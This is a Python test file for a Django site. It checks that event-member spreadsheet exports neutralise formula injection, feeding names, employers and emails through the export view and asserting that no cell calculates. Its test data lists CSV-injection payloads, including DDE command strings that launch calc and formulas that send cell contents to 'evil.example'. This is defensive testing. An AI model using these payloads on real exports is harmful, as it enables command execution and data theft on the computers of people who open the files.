"""What somebody typed is text in every spreadsheet that the site makes, and never calculates."""

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from members import roles
from tests.factories import events, members

ROOMS = ("config", "events", "members", "billing", "news", "mail", "privacy")
MAKING = ("csv.writer", "DictWriter", "text/csv", "spreadsheetml", "Workbook", "ExportMixin")
# Where spreadsheets are made; the view below is each of them.
MADE_IN = {"events/exporting.py", "events/views/room.py"}

FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Klicka")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML("https://evil.example","//a")',
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "%0A=1+1",
    "|calc",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    '";=1+1;"',
    "a;=1+1",
]
STARTS = "=+-@|%＝＋－＠\t\r\n\0"


def is_formula(cell: str) -> bool:
    return cell.lstrip()[:1] in set(STARTS) or cell[:1] in set("\t\r\n\0")


def test_spreadsheets_are_made_in_one_place() -> None:
    """A second one belongs into the test below."""
    base = Path(settings.BASE_DIR)
    files = [file for room in ROOMS for file in (base / room).rglob("*.py")]
    making = {
        str(file.relative_to(base))
        for file in files
        if any(word in file.read_text() for word in MAKING)
    }
    assert making == MADE_IN


@pytest.mark.django_db
def test_no_cell_of_a_list_calculates(client: Client) -> None:
    """Each as name, employer and address, through the view, read back by the rules of CSV."""
    assert len(FORMULAS) >= 20
    event = events.event(capacity=100)
    for formula in FORMULAS:
        events.confirmed(event, name=formula, employer=formula, email=f"{formula}@example.org")
    client.force_login(members.staff(roles.EVENT_MANAGER))
    text = client.get(reverse("events:export", args=[event.slug])).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert {len(row) for row in rows} == {10} and len(rows) == len(FORMULAS) + 1
    assert [cell for row in rows for cell in row if cell and is_formula(cell)] == []
    kept = {row[0].removeprefix("'") for row in rows[1:]}
    assert kept == set(FORMULAS)
